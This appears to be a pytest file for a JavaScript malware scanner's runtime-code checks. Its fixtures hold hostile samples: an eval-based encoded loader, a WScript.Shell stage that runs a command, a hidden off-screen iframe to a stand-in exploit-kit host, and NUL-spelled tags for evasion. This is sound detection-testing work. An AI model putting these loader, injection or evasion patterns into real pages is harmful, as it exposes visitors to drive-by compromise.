"""Code built at run time is analysed like the bundle's, and hiding it is a finding."""

from __future__ import annotations

from scanner.findings import Category, Severity
from scanner.js.runtime_code import runtime_code_findings
from scanner.manifest import Capabilities
from scanner.stages.js_static import compiled_rules
from tests.paths import PROJECT_ROOT

RULES = compiled_rules(PROJECT_ROOT / "rules" / "js")
BUNDLE = b"var k='c2hlbGw=';function run(s){eval(s)}run(decode(k));"
STAGE_TWO = "var sh = WScript.CreateObject('WScript.Shell'); sh.Run('cmd /c calc', 0);"


def _trace(*events: dict[str, str]) -> dict[str, object]:
    return {"role": "user", "events": list(events)}


def _ids(trace: dict[str, object], caps: Capabilities | None = None) -> set[tuple[str, str]]:
    found = runtime_code_findings(trace, RULES, caps or Capabilities(), [BUNDLE])
    return {(f.rule_id, f.category.value) for f in found}


def test_decoded_stage_two_is_analysed_and_reported_as_hidden() -> None:
    found = _ids(_trace({"type": "eval", "code": STAGE_TWO}))
    assert ("js-windows-script", "malware") in found
    assert ("runtime-hidden-code", "obfuscation") in found


def test_code_that_is_in_the_bundle_is_not_hidden() -> None:
    code = "var k='c2hlbGw=';function run(s){eval(s)}run(decode(k));"
    assert ("runtime-hidden-code", "obfuscation") not in _ids(
        _trace({"type": "eval", "code": code})
    )


def test_feature_tests_and_declared_template_compilers_are_not_hidden_code() -> None:
    assert _ids(_trace({"type": "function", "code": "return this"})) == set()
    compiled = "with(this){return _c('div',{staticClass:'row'},[_v(_s(message))])}"
    assert _ids(_trace({"type": "function", "code": compiled}), Capabilities(eval=True)) == set()


def test_written_frame_from_another_host_is_a_landing_page() -> None:
    html = "<div style='position:absolute;left:-9999px'><iframe src='http://ek.example/g'></iframe></div>"
    found = runtime_code_findings(
        _trace({"type": "document-write", "html": html}), RULES, Capabilities(), [BUNDLE]
    )
    assert [(f.rule_id, f.category, f.severity) for f in found] == [
        ("runtime-written-remote-frame", Category.MALWARE, Severity.HIGH)
    ]


def test_scripts_written_into_the_page_are_analysed() -> None:
    html = f"<p>x</p><script>{STAGE_TWO}</script>"
    found = _ids(_trace({"type": "document-write", "html": html}))
    assert ("js-windows-script", "malware") in found


def test_any_document_write_after_load_rewrites_the_host_page() -> None:
    html = "<\x00h\x00t\x00m\x00l\x00>\x00<\x00b\x00o\x00d\x00y\x00>\x00hi"
    found = runtime_code_findings(
        _trace({"type": "document-write", "html": html}), RULES, Capabilities(), [BUNDLE]
    )
    assert [(f.rule_id, f.category, f.severity) for f in found] == [
        ("runtime-document-write", Category.DOM_ESCAPE, Severity.HIGH)
    ]


def test_tags_spelled_with_nuls_are_still_seen() -> None:
    html = "".join(c + "\x00" for c in "<iframe src='http://ek.example/'></iframe>")
    found = runtime_code_findings(
        _trace({"type": "document-write", "html": html}), RULES, Capabilities(), [BUNDLE]
    )
    assert [f.rule_id for f in found] == ["runtime-written-remote-frame"]
